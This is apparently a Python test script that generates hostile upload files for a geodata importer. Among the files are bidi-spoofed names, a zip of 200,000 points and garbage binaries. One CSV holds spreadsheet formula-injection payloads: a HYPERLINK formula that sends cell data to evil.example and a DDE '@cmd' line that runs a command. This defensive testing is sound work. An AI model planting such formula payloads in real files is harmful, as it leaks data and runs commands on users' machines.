"""Hostile import files, made at test time (no binaries in the repository).

Each case is a file a careless or malicious uploader could send, with what the
importer must do with it: import it correctly, or refuse it with a clear
message and write nothing. Never a traceback, never a 500, never a server path.

By hand, to look at the files:  .venv/bin/python tests/hostile/make_corpus.py /tmp/corpus
"""

import csv
import io
import json
import os
import random
import shutil
import subprocess
import sys
import zipfile
from dataclasses import dataclass, field
from pathlib import Path

COLUMNS = ["slug", "name_en", "name_ar", "sector", "governorate_iso", "lat", "lon", "location_precision"]
# IMPORT_MAX_BYTES for the corpus run: small, so the file over it stays small too.
CORPUS_MAX_BYTES = 4 * 1024 * 1024
REFUSED, IMPORTS, EITHER = "refused", "imports", "either"


@dataclass
class Case:
    name: str
    filename: str
    expect: str  # REFUSED, IMPORTS, or EITHER (a clear refusal or a correct import)
    message: str = ""  # a piece of the refusal's message (English), when it must say something precise
    slugs: dict = field(default_factory=dict)  # for IMPORTS: slug -> {field: expected value}
    xfail: str = ""  # why it is expected to fail for now (a fix still to land)


def row(slug, **values) -> dict:
    return {"slug": slug, "name_en": f"Hostile {slug}", "name_ar": "تجمع تجريبي", "sector": "pottery-ceramics",
            "governorate_iso": "EG-C", "lat": "30.0444", "lon": "31.2357", "location_precision": "locality",
            **values}


def write_csv(path: Path, rows: list[dict], delimiter: str = ",", columns=None) -> None:
    with open(path, "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=columns or list(rows[0]), delimiter=delimiter)
        writer.writeheader()
        writer.writerows(rows)


def ogr2ogr(*args: str) -> None:
    subprocess.run(["ogr2ogr", *args], check=True, capture_output=True)


def _points_layer(source: Path) -> list[str]:
    return ["-oo", "X_POSSIBLE_NAMES=lon", "-oo", "Y_POSSIBLE_NAMES=lat", "-oo", "KEEP_GEOM_COLUMNS=NO",
            "-a_srs", "EPSG:4326", str(source)]


def zip_folder(folder: Path, target: Path) -> None:
    with zipfile.ZipFile(target, "w", zipfile.ZIP_DEFLATED) as archive:
        for path in sorted(folder.iterdir()):
            archive.write(path, path.name)


def make_corpus(out: Path, max_bytes: int = CORPUS_MAX_BYTES) -> list[Case]:
    out.mkdir(parents=True, exist_ok=True)
    work = out / "work"
    work.mkdir(exist_ok=True)
    cases = []

    # 1. Formula cells: the export puts an apostrophe before = + - @; the import takes exactly it off.
    write_csv(out / "formula.csv", [
        row("hostile-formula-quoted", name_en="'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"),
        row("hostile-formula-plus", name_en="'+1+1"),
        row("hostile-formula-plain", name_en="@cmd|' /C calc'!A0"),
    ])
    cases.append(Case("formula cells", "formula.csv", IMPORTS, slugs={
        "hostile-formula-quoted": {"name_en": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")"},
        "hostile-formula-plus": {"name_en": "+1+1"},
        "hostile-formula-plain": {"name_en": "@cmd|' /C calc'!A0"},
    }))

    # 2. NaN and Infinity in GeoJSON coordinates (Python's json writes them as bare words).
    features = [{"type": "Feature", "geometry": {"type": "Point", "coordinates": [x, y]},
                 "properties": {k: v for k, v in row(f"hostile-nan-{i}").items() if k not in ("lat", "lon")}}
                for i, (x, y) in enumerate([(float("nan"), 30.0), (31.2, float("inf")), (float("-inf"), 30.0)])]
    (out / "nan.geojson").write_text(json.dumps({"type": "FeatureCollection", "features": features}))
    cases.append(Case("NaN and Infinity points", "nan.geojson", REFUSED))

    # 3. A GeoPackage whose geometry is POINT EMPTY.
    source = work / "empty-point.csv"
    empty = {k: v for k, v in row("hostile-empty-point").items() if k not in ("lat", "lon")}
    write_csv(source, [{**empty, "WKT": "POINT EMPTY"}])
    ogr2ogr("-f", "GPKG", str(out / "point-empty.gpkg"), "-oo", "GEOM_POSSIBLE_NAMES=WKT",
            "-oo", "KEEP_GEOM_COLUMNS=NO", "-a_srs", "EPSG:4326", "-nlt", "POINT", str(source))
    cases.append(Case("POINT EMPTY GeoPackage", "point-empty.gpkg", EITHER))

    # 4. A CSV cell of 200,000 characters (over the csv module's default 131,072).
    write_csv(out / "huge-cell.csv", [row("hostile-huge-cell", description_en="x" * 200_000),
                                      row("hostile-after-huge-cell")])
    cases.append(Case("a 200,000-character cell", "huge-cell.csv", EITHER))

    # 5. A zipped Shapefile in CP1256 (Arabic Windows) without its .cpg file: common in Egypt.
    shape = work / "cp1256"
    shape.mkdir(exist_ok=True)
    source = work / "cp1256.csv"
    write_csv(source, [row("hostile-cp1256", name_ar="تجمع الفخار بالفسطاط")])
    ogr2ogr("-f", "ESRI Shapefile", str(shape / "clusters.shp"), "-lco", "ENCODING=CP1256", *_points_layer(source))
    for cpg in shape.glob("*.cpg"):
        cpg.unlink()
    zip_folder(shape, out / "cp1256.zip")
    cases.append(Case("CP1256 Shapefile without .cpg", "cp1256.zip", IMPORTS,
                      slugs={"hostile-cp1256": {"name_ar": "تجمع الفخار بالفسطاط"}}))

    # 6. 3D points: the height is dropped, or the preview refuses them; never a pass then a failure.
    features = [{"type": "Feature", "geometry": {"type": "Point", "coordinates": [31.2357, 30.0444, 25.0]},
                 "properties": {k: v for k, v in row("hostile-3d").items() if k not in ("lat", "lon")}}]
    (out / "3d.geojson").write_text(json.dumps({"type": "FeatureCollection", "features": features}))
    cases.append(Case("3D points", "3d.geojson", EITHER))

    # 7. A GeoPackage without a geometry column, but with lat and lon: read like a CSV.
    source = work / "no-geometry.csv"
    write_csv(source, [row("hostile-no-geometry", lat="30.0500", lon="31.2400")])
    ogr2ogr("-f", "GPKG", str(out / "no-geometry.gpkg"), str(source), "-nln", "clusters")
    cases.append(Case("GeoPackage without geometry, with lat/lon", "no-geometry.gpkg", IMPORTS,
                      slugs={"hostile-no-geometry": {"lat": 30.05}}))

    # 8. Zip bomb-ish: about 1 MB of zip holding 200,000 points.
    shape = work / "many"
    shape.mkdir(exist_ok=True)
    source = work / "many.csv"
    with open(source, "w", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(["slug", "lat", "lon"])
        # On a grid near Cairo: the coordinates repeat, so the zip stays small.
        for i in range(200_000):
            writer.writerow([f"p{i}", f"{30 + (i // 500) / 4000:.4f}", f"{31 + (i % 500) / 4000:.4f}"])
    ogr2ogr("-f", "ESRI Shapefile", str(shape / "many.shp"), *_points_layer(source))
    zip_folder(shape, out / "200k-points.zip")
    cases.append(Case("a zip of 200,000 points", "200k-points.zip", REFUSED, message="more than 100,000 records"))

    # 9. A CSV over the byte limit.
    with open(out / "huge.csv", "w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=COLUMNS)
        writer.writeheader()
        i = 0
        while handle.tell() <= max_bytes:
            writer.writerow(row(f"hostile-huge-{i}"))
            i += 1
    cases.append(Case("a CSV over the byte limit", "huge.csv", REFUSED, message="Split it into smaller files"))

    # 10. Bidi overrides and isolates in names: text that displays reversed.
    write_csv(out / "bidi.csv", [row("hostile-bidi", name_en="Pottery \u202eyrettop\u202c", name_ar="فخار \u2067x\u2069")])
    cases.append(Case("bidi controls in names", "bidi.csv", EITHER))

    # 11. A semicolon CSV, as Excel writes it where the comma is the decimal sign.
    write_csv(out / "semicolon.csv", [row("hostile-semicolon")], delimiter=";")
    cases.append(Case("semicolon CSV", "semicolon.csv", EITHER))

    # 12. A wrong extension: a CSV named .geojson, and a GeoPackage named .csv.
    shutil.copy(out / "semicolon.csv", out / "csv-named.geojson")
    cases.append(Case("a CSV named .geojson", "csv-named.geojson", REFUSED))
    shutil.copy(out / "no-geometry.gpkg", out / "gpkg-named.csv")
    cases.append(Case("a GeoPackage named .csv", "gpkg-named.csv", REFUSED))
    shutil.copy(out / "formula.csv", out / "spreadsheet.xlsx")
    cases.append(Case("an unsupported extension", "spreadsheet.xlsx", REFUSED, message="Unsupported file type"))

    # 13. Empty files.
    (out / "empty.csv").write_bytes(b"")
    cases.append(Case("an empty CSV", "empty.csv", REFUSED))
    (out / "empty.gpkg").write_bytes(b"")
    cases.append(Case("an empty GeoPackage", "empty.gpkg", REFUSED))

    # 14. Binary garbage under each supported name.
    garbage = random.Random(14).randbytes(64 * 1024)
    for suffix in ("csv", "geojson", "gpkg", "zip"):
        (out / f"garbage.{suffix}").write_bytes(garbage)
        cases.append(Case(f"binary garbage .{suffix}", f"garbage.{suffix}", REFUSED))
    # A zip holding garbage where the Shapefile should be.
    with zipfile.ZipFile(out / "garbage-shapefile.zip", "w") as archive:
        for part in ("x.shp", "x.shx", "x.dbf"):
            archive.writestr(part, garbage[:4096])
    cases.append(Case("a zip of garbage Shapefile parts", "garbage-shapefile.zip", REFUSED))

    shutil.rmtree(work)
    return cases


if __name__ == "__main__":
    target = Path(sys.argv[1] if len(sys.argv) > 1 else "hostile-corpus")
    for case in make_corpus(target):
        size = os.path.getsize(target / case.filename)
        print(f"{case.filename:<26} {size:>10,} bytes  {case.expect:<8} {case.name}")
